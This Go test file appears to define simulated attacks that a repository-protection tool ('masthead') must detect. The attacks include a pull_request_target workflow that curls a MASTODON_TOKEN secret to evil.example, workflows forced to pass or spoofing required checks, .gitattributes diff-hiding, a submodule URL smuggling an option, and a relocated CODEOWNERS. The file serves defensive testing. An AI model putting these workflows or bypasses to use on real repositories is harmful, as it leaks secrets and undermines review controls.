package hostile

import "slices"

const evilWorkflow = `name: masthead
on: [pull_request_target]
permissions: write-all
jobs:
  masthead:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@v4
        with: {ref: "${{ github.event.pull_request.head.sha }}"}
      - run: "curl https://evil.example -d \"$SECRET\""
        env: {SECRET: "${{ secrets.MASTODON_TOKEN }}"}
`

func trusted(paths ...string) []string {
	var lines []string
	for _, path := range paths {
		lines = append(lines, "warning trusted-part-changed "+path)
	}
	return lines
}

var workflowAttacks = []Attack{
	{ID: "workflow-passes-always", Title: "The workflow is made to pass always", Row: "workflow",
		Does:   "Makes the step that judges end without an error, whatever it finds.",
		Holds:  "The change needs two people, and publishing judges again by itself.",
		Change: func(r *Repo) { r.Edit(workflow, "--format github", "--format github || true") },
		Want:   Want{Needs: byTwo, Findings: trusted(workflow)},
		Twin:   func(r *Repo) { r.Edit(workflow, "name: masthead\non", "name: Masthead\non") }, Notes: trusted(workflow)},
	{ID: "second-job-of-the-name", Title: "A second job of the same name", Row: "workflow",
		Does:  "Adds a workflow whose job has the name of the required check and does nothing.",
		Holds: "The change needs two people; a check counts only when its app and its workflow are the right ones.",
		Change: func(r *Repo) {
			r.Write(".github/workflows/fast.yml", "name: masthead\non: [pull_request]\njobs:\n  masthead: {runs-on: ubuntu-24.04, steps: [{run: \"true\"}]}\n")
		},
		Want: Want{Needs: byTwo, Findings: trusted(".github/workflows/fast.yml")},
		Twin: func(r *Repo) { r.Write(".github/pull_request_template.md", "What changes, and why?\n") }, Notes: trusted(".github/pull_request_template.md")},
	{ID: "workflow-with-secrets", Title: "A workflow that reads secrets on a pull request", Row: "workflow",
		Does:   "Adds a workflow that runs with secrets on the attacker's own code.",
		Holds:  "The change needs two people; `masthead doctor` names the hole that lets it run at all.",
		Change: func(r *Repo) { r.Write(".github/workflows/evil.yml", evilWorkflow) },
		Want:   Want{Needs: byTwo, Findings: trusted(".github/workflows/evil.yml")},
		NoTwin: "any other file of the folder is the twin of its neighbours"},
	{ID: "workflow-of-another-forge", Title: "A workflow where another forge looks for it", Row: "workflow",
		Does:  "Adds a workflow in .gitea/workflows and .forgejo/workflows, which those forges run like the one in .github.",
		Holds: "Such files judge others like those in .github, and need two people.",
		Change: func(r *Repo) {
			r.Write(".gitea/workflows/masthead.yml", evilWorkflow)
			r.Write(".forgejo/workflows/masthead.yml", evilWorkflow)
		},
		Want:   Want{Needs: byTwo, Findings: trusted(".forgejo/workflows/masthead.yml", ".gitea/workflows/masthead.yml")},
		NoTwin: "any other file of the folder is the twin of its neighbours"},
	{ID: "workflow-by-link", Title: "The folder of workflows is a link", Row: "workflow",
		Does:  "Replaces the workflow by a link to a file that needs no approval.",
		Holds: "A link is an error, and the change needs two people.",
		Change: func(r *Repo) {
			r.Write("docs/steps.yml", evilWorkflow)
			r.Link(workflow, "../../docs/steps.yml")
		},
		Want: Want{Needs: byTwo, Findings: append(trusted(workflow), "error not-a-regular-file "+workflow)},
		Twin: func(r *Repo) { r.Write("docs/steps.yml", "steps: []\n") }},
	{ID: "diff-hidden-by-attributes", Title: "Attributes that hide a change from the reviewer", Row: "unapproved",
		Does:  "Marks the calendar as generated and without a diff, so that GitHub folds the bad post away.",
		Holds: "Attributes change nothing of what is judged, need two people, and the post is shown in our comment.",
		Change: func(r *Repo) {
			r.Write(".gitattributes", "calendar/** -diff linguist-generated=true filter=evil working-tree-encoding=UTF-16\n")
			evilLink(r)
		},
		Want: Want{Needs: slices.Concat(byNorth, byTwo), Findings: append(trusted(".gitattributes"), "error link-host-not-allowed "+newPost)}, Twin: func(r *Repo) {
			r.Write(".gitattributes", "*.jpg filter=lfs diff=lfs merge=lfs -text\n")
			ownLink(r)
		}, Notes: trusted(".gitattributes")},
	{ID: "attributes-among-posts", Title: "Attributes and settings of Git in our folders", Row: "paths",
		Does:  "Brings .gitattributes, .gitignore and .gitmodules into the calendar.",
		Holds: "Files that are of no kind are errors.",
		Change: func(r *Repo) {
			r.Write("calendar/.gitattributes", "* -diff\n")
			r.Write("calendar/north/.gitmodules", "[submodule \"x\"]\n\tpath = x\n\turl = -ufoo\n")
			r.Write("calendar/north/2026/.gitignore", "*.md\n")
		},
		Want: Want{Needs: []string{"strictest: 1 of ola"}, Findings: []string{"error unplaceable-file calendar/north/.gitmodules"}}, Twin: ownLink},
	{ID: "owners-elsewhere", Title: "CODEOWNERS where GitHub looks next", Row: "workflow",
		Does:  "Deletes .github/CODEOWNERS, and brings one in docs, which GitHub reads when the first is missing.",
		Holds: "Two people approve the deletion.",
		Change: func(r *Repo) {
			r.Remove(".github/CODEOWNERS")
			r.Write("docs/CODEOWNERS", "* @mallory\n")
		},
		Want: Want{Needs: byTwo, Findings: []string{"warning trusted-part-changed .github/CODEOWNERS (removed)"}}, Twin: ownLink},
}
